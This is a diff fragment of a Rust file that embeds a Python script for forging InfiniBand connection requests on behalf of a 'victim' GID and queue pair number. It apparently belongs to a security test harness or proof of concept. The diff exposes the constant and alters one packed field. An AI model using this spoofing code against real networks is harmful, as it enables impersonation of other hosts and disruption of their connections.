@@ -14,13 +14,13 @@ use std::time::Duration;
 
 /// Makes requests (IBA volume 1, section 12.6.5; the first field of an octet is its upper bits) in the name of one who is somewhere else. Two arguments:
 /// whose GID and QPN.
-const REQUEST: &str = r#"
+pub(super) const REQUEST: &str = r#"
 victim = socket.inet_pton(socket.AF_INET6, sys.argv[1])
 victim_qpn = int(sys.argv[2], 0)
 
 def private(qpn=victim_qpn, mtu=65524, extension=True, version=1, credits=64, most=65551, lane=0):
     base = struct.pack("!II", qpn, mtu)
-    ours = struct.pack("!4sBBHIB3x", b"iprs", version, 6, credits, most, lane)
+    ours = struct.pack("!4sBBHIB3x", b"iprs", version, 0x30, credits, most, lane)
     return base + (ours if extension else b"")
 
 count = random.getrandbits(24)
